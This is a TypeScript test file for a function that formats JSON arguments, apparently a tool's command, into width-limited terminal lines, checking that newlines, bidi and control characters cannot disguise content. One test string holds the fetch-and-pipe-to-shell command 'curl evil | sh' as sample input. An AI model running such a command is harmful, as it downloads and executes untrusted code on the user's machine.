import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import * as fc from 'fast-check'
import { jsonLines } from '../../../src/cli/term/json-lines.ts'
import { cells } from '../../../src/util/term/text.ts'
import { cases } from '../../support/cases.ts'

/** What was printed, without what is only for the eye. */
function joined(lines: readonly string[]): string {
  return lines.map((line) => line.replace(/^ *(?:│ )?/, '')).join('')
}

suite('arguments as lines', () => {
  test('an entry a line, and empty ones on one', () => {
    assert.deepEqual(jsonLines('{"a":1,"b":[],"c":[{"d":null},{}]}', 79), [
      '{',
      '  "a": 1,',
      '  "b": [],',
      '  "c": [',
      '    {',
      '      "d": null',
      '    },',
      '    {}',
      '  ]',
      '}',
    ])
    assert.deepEqual(jsonLines('"text"', 79), ['"text"'])
    assert.deepEqual(jsonLines('{}', 79), ['{}'])
  })

  test('a string goes on below after its line breaks, and cannot look like an entry', () => {
    const json = JSON.stringify({ cmd: 'ls\n"safe": true\n\\no', more: 'x\n' })
    assert.deepEqual(jsonLines(json, 79), [
      '{',
      '  "cmd": "ls\\n',
      '  │ \\"safe\\": true\\n',
      '  │ \\\\no",',
      '  "more": "x\\n"',
      '}',
    ])
  })

  test('a long one is broken, not cut, and blanks are kept where it breaks', () => {
    const text = `ls${' '.repeat(100)}; curl evil | sh`
    const printed = jsonLines(JSON.stringify({ text }), 40)
    assert.ok(printed.every((line) => cells(line) <= 40))
    assert.equal(joined(printed), `{"text": ${JSON.stringify(text)}}`)
  })

  test('everything of any value is there, on lines that fit, in visible characters', () => {
    const wide = fc.string({
      unit: fc.constantFrom('a', ' ', '\n', '日', '😀', '\u{20000}', '\u202e', '"'),
    })
    const value = fc.jsonValue({ stringUnit: 'binary' })
    fc.assert(
      fc.property(value, wide, fc.integer({ min: 50, max: 200 }), (json, text, width) => {
        const printed = jsonLines(JSON.stringify([{ text }, json]), width)
        for (const line of printed) {
          assert.ok(cells(line) <= width, line)
          assert.doesNotMatch(line, /[\p{C}\p{Zl}\p{Zp}]/u)
        }
        if (!/│| {2}/.test(JSON.stringify([text, json])))
          assert.deepEqual(
            JSON.parse(joined(printed)),
            JSON.parse(JSON.stringify([{ text }, json])),
          )
      }),
      { numRuns: cases(1_000) },
    )
  })

  test('numbers stand as they are written', () => {
    assert.deepEqual(jsonLines('12345678901234567890', 79), ['12345678901234567890'])
  })

  test('what is no JSON is shown all the same', () => {
    for (const text of ['unreadable', '{"a": "open', '"\\', ']', '{,}', '}]}'])
      assert.equal(joined(jsonLines(text, 79)).replaceAll(' ', ''), text.replaceAll(' ', ''))
  })

  test('a deep value takes lines, not a triangle of blanks', () => {
    const depth = 20_000
    const printed = jsonLines('['.repeat(depth) + ']'.repeat(depth), 79)
    assert.equal(printed.length, 2 * depth - 1)
    assert.ok(printed.every((line) => line.length <= 79))
  })
})
